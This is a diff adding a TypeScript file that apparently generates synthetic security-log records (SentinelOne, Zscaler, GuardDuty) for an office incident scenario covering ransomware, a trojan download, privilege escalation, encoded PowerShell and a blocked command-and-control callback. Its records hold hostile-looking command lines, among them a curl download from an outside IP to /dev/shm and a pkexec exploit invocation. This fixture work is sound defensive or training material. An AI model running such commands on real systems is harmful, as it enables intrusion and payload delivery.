@@ -1,0 +1,282 @@
+import { person, production, server } from './organisation.ts';
+import { connectionAction, finding, instance } from './records/guardduty.ts';
+import { type Threat, threat } from './records/sentinelone.ts';
+import { dnsLine, firewallLine, webLine } from './records/zscaler.ts';
+import type { Beat, Story } from './story.ts';
+
+const accountant = person('jiyoung.park');
+const developer = person('john.doe');
+const administrator = person('admin02');
+
+/** The one address here that is not reserved: the brief names 185.x. */
+const remote = '185.220.101.47';
+
+const installer = {
+  name: 'driver-update-setup.exe',
+  url: 'downloads.example.net/tools/driver-update-setup.exe',
+  md5: '5f4d1c3b2a19088776655443322110ff',
+  sha1: '9a1b3c5d7e9f00112233445566778899aabbccdd',
+  sha256: '3b7e1f90a2c4d6e8f00112233445566778899aabbccddeeff0011223344556677',
+};
+
+const encryption = (minutesBefore: number, login: Parameters<typeof person>[0], file: string): Beat => {
+  const victim = person(login);
+  return {
+    minutesBefore,
+    source: 'sentinelone',
+    what: `Files of ${victim.host} start to be encrypted; the agent kills it, rolls back and cuts the host off the network`,
+    record: (at, random) =>
+      threat(at, random, {
+        name: file,
+        classification: 'Ransomware',
+        confidence: 'malicious',
+        verdict: 'true_positive',
+        incident: 'in_progress',
+        mitigation: 'mitigated',
+        actions: ['kill', 'quarantine', 'remediate', 'rollback'],
+        engines: ['Behavioral AI', 'Anti Exploitation / Fileless'],
+        path: `\\Device\\HarddiskVolume3\\Users\\${login}\\Downloads\\${file}`,
+        commandLine: `"C:\\Users\\${login}\\Downloads\\${file}" /quiet`,
+        originator: 'explorer.exe',
+        processUser: `EXAMPLE\\${login}`,
+        host: victim.host,
+        os: 'windows',
+        ip: victim.privateIp,
+        publicIp: victim.publicIp,
+        isolated: true,
+        techniques: [
+          { tactic: 'Impact', id: 'T1486', name: 'Data Encrypted for Impact' },
+          { tactic: 'Impact', id: 'T1490', name: 'Inhibit System Recovery' },
+        ],
+        description: 'Many files were rewritten and shadow copies were deleted within seconds.',
+        hashes: {
+          md5: '0cc175b9c0f1b6a831c399e269772661',
+          sha1: '86f7e437faa5a7fce15d1ddcb9eaeaea377667b8',
+          sha256: 'ca978112ca1bbdcafac231b39a23dc4da786eff8147c4f72b9807785afee48bb',
+        },
+      }),
+  };
+};
+
+const onServer: Pick<Threat, 'host' | 'os' | 'ip' | 'publicIp'> = {
+  host: server.host,
+  os: 'linux',
+  ip: server.privateIp,
+  publicIp: server.publicIp,
+};
+
+export const story: Story = {
+  title: 'A Tuesday at the office',
+  what:
+    'A file opened in Finance encrypts three workstations, which are isolated. Independently, a download by john.doe is blocked, ' +
+    'someone gains root on server-prod-01, a script runs in the session of admin02, and a connection of the server to 185.220.101.47 is blocked.',
+  principals: [accountant.login, 'hyun.choi', 'sora.lee', developer.login, administrator.login],
+  ips: [remote],
+  hosts: [accountant.host, 'FIN-WS-021', 'HR-WS-203', developer.host, server.host, administrator.host],
+  beats: [
+    {
+      minutesBefore: 22 * 60 + 6,
+      source: 'zscaler',
+      what: 'jiyoung.park downloads an archive that nobody had seen before; it is allowed',
+      record: (at, random) =>
+        webLine(at, random, {
+          person: accountant,
+          url: 'invoices.example.org/2026/statement.zip',
+          serverIp: '203.0.113.90',
+          category: 'Newly Registered Domains',
+          superCategory: 'Security',
+          responseBytes: 1_842_113,
+          file: {
+            name: 'statement.zip',
+            type: 'ZIP',
+            md5: '92eb5ffee6ae2fec3ad71c777531578f',
+            sha256: '3e23e8160039594a33894f6564e1b1348bbd7a0088d42c4acb73eeaed59c009d',
+          },
+        }),
+    },
+    encryption(21 * 60 + 40, 'jiyoung.park', 'statement_viewer.exe'),
+    encryption(21 * 60 + 29, 'hyun.choi', 'statement_viewer.exe'),
+    encryption(21 * 60 + 17, 'sora.lee', 'statement_viewer.exe'),
+    {
+      minutesBefore: 16 * 60 + 5,
+      source: 'zscaler',
+      what: 'The proxy blocks a download by john.doe',
+      record: (at, random) =>
+        webLine(at, random, {
+          person: developer,
+          url: installer.url,
+          serverIp: '203.0.113.91',
+          category: 'Malware Sites',
+          superCategory: 'Advanced Security',
+          file: { name: installer.name, type: 'EXE', md5: installer.md5, sha256: installer.sha256 },
+          blocked: {
+            reason: 'Malware block: malicious file',
+            rule: 'Malware Protection',
+            ruleType: 'MalwareProtection',
+            threat: 'Win32.Trojan.Agent',
+            malware: 'Trojan',
+            risk: 100,
+          },
+        }),
+    },
+    {
+      minutesBefore: 16 * 60 + 4,
+      source: 'sentinelone',
+      what: 'The same file, from a second try, is killed and quarantined on the laptop of john.doe',
+      record: (at, random) =>
+        threat(at, random, {
+          name: installer.name,
+          classification: 'Trojan',
+          confidence: 'malicious',
+          verdict: 'true_positive',
+          incident: 'resolved',
+          mitigation: 'mitigated',
+          actions: ['kill', 'quarantine'],
+          engines: ['On-Write Static AI', 'SentinelOne Cloud'],
+          detection: 'static',
+          path: `\\Device\\HarddiskVolume3\\Users\\john.doe\\Downloads\\${installer.name}`,
+          originator: 'chrome.exe',
+          processUser: 'EXAMPLE\\john.doe',
+          host: developer.host,
+          os: 'windows',
+          ip: developer.privateIp,
+          publicIp: developer.publicIp,
+          techniques: [{ tactic: 'Execution', id: 'T1204.002', name: 'User Execution: Malicious File' }],
+          description: 'A known trojan was written to disk by a browser; the download was blocked.',
+          hashes: { md5: installer.md5, sha1: installer.sha1, sha256: installer.sha256 },
+        }),
+    },
+    {
+      minutesBefore: 11 * 60 + 20,
+      source: 'sentinelone',
+      what: 'A process of the application account becomes root on server-prod-01; nothing has been done about it yet',
+      record: (at, random) =>
+        threat(at, random, {
+          ...onServer,
+          name: 'pkexec (privilege escalation)',
+          classification: 'Privilege Escalation',
+          confidence: 'malicious',
+          incident: 'unresolved',
+          mitigation: 'not_mitigated',
+          engines: ['Behavioral AI'],
+          path: '/tmp/.cache/pwn',
+          commandLine: '/tmp/.cache/pwn --target /usr/bin/pkexec',
+          originator: 'java',
+          processUser: 'app',
+          techniques: [{ tactic: 'Privilege Escalation', id: 'T1068', name: 'Exploitation for Privilege Escalation' }],
+          description: 'A process gained root through a vulnerable setuid program.',
+        }),
+    },
+    {
+      minutesBefore: 7 * 60 + 12,
+      source: 'sentinelone',
+      what: 'An encoded PowerShell script runs in the session of admin02; an analyst is looking at it',
+      record: (at, random) =>
+        threat(at, random, {
+          name: 'powershell.exe (encoded script)',
+          classification: 'Malicious Script',
+          confidence: 'suspicious',
+          verdict: 'suspicious',
+          incident: 'in_progress',
+          mitigation: 'not_mitigated',
+          engines: ['Behavioral AI', 'Script Control'],
+          path: '\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+          commandLine:
+            'powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand RwBlAHQALQBBAEQAVQBzAGUAcgAgAC0ARgBpAGwAdABlAHIAIAAqAA==',
+          originator: 'winrm',
+          processUser: 'EXAMPLE\\admin02',
+          host: administrator.host,
+          os: 'windows',
+          ip: administrator.privateIp,
+          publicIp: administrator.publicIp,
+          techniques: [
+            { tactic: 'Execution', id: 'T1059.001', name: 'PowerShell' },
+            { tactic: 'Discovery', id: 'T1087.002', name: 'Account Discovery: Domain Account' },
+          ],
+          description: 'An encoded script listed every account of the domain.',
+        }),
+    },
+    {
+      minutesBefore: 3 * 60 + 32,
+      source: 'zscaler',
+      what: `server-prod-01 looks up a name that leads to ${remote}`,
+      record: (at, random) =>
+        dnsLine(at, random, {
+          person: { ...administrator, login: server.host, email: server.host, host: server.host },
+          name: 'relay.example.org',
+          answer: remote,
+          category: 'Miscellaneous or Unknown',
+        }),
+    },
+    {
+      minutesBefore: 3 * 60 + 31,
+      source: 'zscaler',
+      what: `The firewall drops the connection to ${remote}, again and again`,
+      times: 6,
+      secondsApart: 20,
+      record: (at, random) =>
+        firewallLine(at, random, {
+          who: server.host,
+          department: 'Servers',
+          host: server.host,
+          location: 'AWS us-east-1',
+          from: server.privateIp,
+          to: remote,
+          port: 443,
+          service: 'HTTPS',
+          country: 'Germany',
+          drop: { rule: 'Block known command and control', threat: 'Tor exit node', category: 'Botnet Callback' },
+        }),
+    },
+    {
+      minutesBefore: 3 * 60 + 30,
+      source: 'sentinelone',
+      what: `The agent blocks the connection of server-prod-01 to ${remote}`,
+      record: (at, random) =>
+        threat(at, random, {
+          ...onServer,
+          name: `curl (connection to ${remote})`,
+          classification: 'Command and Control',
+          confidence: 'malicious',
+          verdict: 'true_positive',
+          incident: 'resolved',
+          mitigation: 'mitigated',
+          actions: ['kill'],
+          engines: ['Behavioral AI', 'Firewall Control'],
+          path: '/usr/bin/curl',
+          commandLine: `curl -sk https://${remote}/update -o /dev/shm/u`,
+          originator: 'sh',
+          processUser: 'root',
+          techniques: [
+            { tactic: 'Command and Control', id: 'T1071.001', name: 'Application Layer Protocol: Web Protocols' },
+          ],
+          description: `An outbound connection to ${remote}:443 was blocked.`,
+        }),
+    },
+    {
+      minutesBefore: 3 * 60 + 10,
+      source: 'guardduty',
+      what: `GuardDuty sees server-prod-01 try to reach ${remote}`,
+      record: (at, random) =>
+        finding(at, random, {
+          account: production,
+          region: 'us-east-1',
+          type: 'UnauthorizedAccess:EC2/TorClient',
+          severity: 8,
+          title: `The EC2 instance ${server.instanceId} is communicating with a Tor entry node.`,
+          description: `The EC2 instance ${server.instanceId} (${server.host}) is communicating with IP address ${remote} on the Tor network.`,
+          resource: instance({ id: server.instanceId, name: server.host, region: 'us-east-1', ...server }),
+          action: connectionAction({
+            direction: 'OUTBOUND',
+            ip: remote,
+            localIp: server.privateIp,
+            localPort: 43_122,
+            remotePort: 443,
+            blocked: true,
+          }),
+          count: 6,
+          lasted: 5,
+        }),
+    },
+  ],
+};
